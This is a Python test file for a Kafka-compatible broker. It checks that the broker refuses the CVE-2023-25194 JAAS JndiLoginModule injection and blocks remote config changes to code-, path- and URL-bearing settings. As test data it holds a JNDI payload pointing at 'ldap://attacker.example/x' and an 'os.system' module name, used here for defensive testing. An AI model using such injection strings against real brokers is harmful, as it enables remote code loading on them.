"""CVE-2023-25194: a login module of `sasl.jaas.config` named what was loaded: JndiLoginModule fetched code by LDAP."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from ottla.broker import config as configuration
from ottla.broker.sasl_listeners import SaslListeners
from ottla.core.errors import ErrorCode
from ottla.core.settings import AlterConfigOpType, ConfigResourceType, InvalidSettings
from ottla.security.sasl.jaas import parse_jaas
from ottla.wire.generated.incremental_alter_configs import (
    AlterableConfig,
    AlterConfigsResource,
    IncrementalAlterConfigsRequest,
)
from tests.support.sasl_broker import sasl_broker

JNDI = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://attacker.example/x";'
LISTENER = {"listeners": "SASL_PLAINTEXT://127.0.0.1:0", "sasl.enabled.mechanisms": "PLAIN"}


@pytest.mark.parametrize("module", [JNDI, JNDI.replace("Jndi", "Ldap"), 'os.system required user_a="b";'])
def test_a_login_module_that_is_not_known_prevents_the_start(module: str) -> None:
    loaded = set(sys.modules)
    options = {**LISTENER, "listener.name.sasl_plaintext.plain.sasl.jaas.config": module}
    config, _ = configuration.read(file=None, environment={}, options=options)
    with pytest.raises(InvalidSettings, match="no class is loaded") as refused:
        SaslListeners(config)
    assert "attacker" not in str(refused.value)
    assert not {name for name in set(sys.modules) - loaded if "jndi" in name.lower()}


def test_a_jaas_config_is_only_parsed() -> None:
    parsed = parse_jaas(JNDI)
    assert parsed.options == {"user.provider.url": "ldap://attacker.example/x"}
    assert "attacker" not in repr(parsed)


@pytest.mark.parametrize(
    "name",
    [
        "sasl.jaas.config",
        "listener.name.plaintext.plain.sasl.jaas.config",
        "sasl.oauthbearer.jwks.endpoint.url",
        "listener.name.plaintext.oauthbearer.sasl.oauthbearer.jwks.endpoint.url",
        "ottla.initial.users.file",
        "sasl.server.callback.handler.class",
        "org.apache.kafka.sasl.oauthbearer.allowed.urls",
    ],
)
async def test_no_request_sets_what_names_code_a_path_or_a_url(tmp_path: Path, name: str) -> None:
    async with sasl_broker(tmp_path) as broker:
        change = AlterableConfig(name=name, config_operation=AlterConfigOpType.SET, value=JNDI)
        resource = AlterConfigsResource(resource_type=ConfigResourceType.BROKER, resource_name="1", configs=[change])
        answer = await broker.cluster.handlers(1).call(
            "incremental_alter_configs", 1, IncrementalAlterConfigsRequest(resources=[resource])
        )
        assert answer.responses[0].error_code == ErrorCode.INVALID_REQUEST
